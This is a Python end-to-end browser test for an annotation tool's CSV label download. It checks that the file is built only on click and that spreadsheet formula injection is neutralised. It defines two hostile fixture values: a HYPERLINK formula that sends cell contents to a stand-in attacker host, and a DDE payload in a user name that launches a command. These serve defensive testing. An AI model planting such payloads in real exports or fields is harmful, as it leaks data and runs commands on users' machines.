"""A researcher's download in real Chromium: built only on click, and formula-safe.

Before the click the page holds no /media URL (nothing for anyone else to
fetch); the CSV that arrives quotes a hostile comment and names the
annotator (whose user name is hostile too) by their pseudonym.
"""

from __future__ import annotations

import csv
import io
import re

import pytest

from rmgap_annot.accounts import create_user
from rmgap_annot.annotation import item_for_annotator, submit_label
from rmgap_annot.assignment import next_item
from rmgap_annot.formats.rmgap import import_benchmark
from rmgap_annot.synthetic import make_records, write_jsonl
from tests.e2e.conftest import WAIT_MS, settle, start_server

pytestmark = pytest.mark.e2e
PASSWORD = "rosa-password-123"
COMMENT = '=HYPERLINK("http://evil.example/?"&A1,"x")'
ANNOTATOR = "+cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    folder = tmp_path_factory.mktemp("data")

    def prepare(engine):  # noqa: ANN001
        records = make_records({"Chat": 1, "Safety": 1}, seed=4, long_text=False)
        bid = import_benchmark(engine=engine, path=write_jsonl(folder / "d.jsonl", records), name="dl").benchmark_id
        create_user(engine=engine, name="rosa", role="researcher", password=PASSWORD)
        uid = create_user(engine=engine, name=ANNOTATOR, role="annotator")
        item = next_item(engine=engine, user_id=uid, benchmark_id=bid)
        key = item_for_annotator(engine=engine, user_id=uid, item_id=item).keys[0]
        submit_label(engine=engine, user_id=uid, item_id=item, choice_key=key, naturalness=4, comment=COMMENT)

    srv = start_server(tmp_path_factory, prepare)
    yield srv
    srv.stop()


def test_labels_download_is_made_on_click_and_quotes_formulas(server, browser):
    context = browser.new_context(accept_downloads=True)
    media: list[str] = []
    context.on("request", lambda r: media.append(r.url) if r.url.startswith(server.url + "media/") else None)
    page = context.new_page()
    try:
        page.goto(server.url)
        page.get_by_role("textbox", name="Username").fill("rosa")
        page.get_by_role("textbox", name="Password").fill(PASSWORD)
        page.get_by_role("button", name="Log in").click()
        page.get_by_role("link", name="Results").click(timeout=WAIT_MS)
        button = page.get_by_role("button", name="Download labels (CSV)")
        button.wait_for(timeout=WAIT_MS)
        settle(page)
        assert not re.search(r"(?<!static)/media/", page.content()) and media == []
        with page.expect_download(timeout=WAIT_MS) as info:
            button.click()
        body = open(info.value.path(), encoding="utf-8", newline="").read()
        cells = [c for row in csv.reader(io.StringIO(body, newline="")) for c in row]
        assert "'" + COMMENT in cells
        # The annotator appears under their pseudonym: the hostile user name never leaves the system.
        assert "ann-01" in cells and not [c for c in cells if "calc" in c]
        assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert len(media) == 1  # the file is fetched once, after the click
    finally:
        context.close()
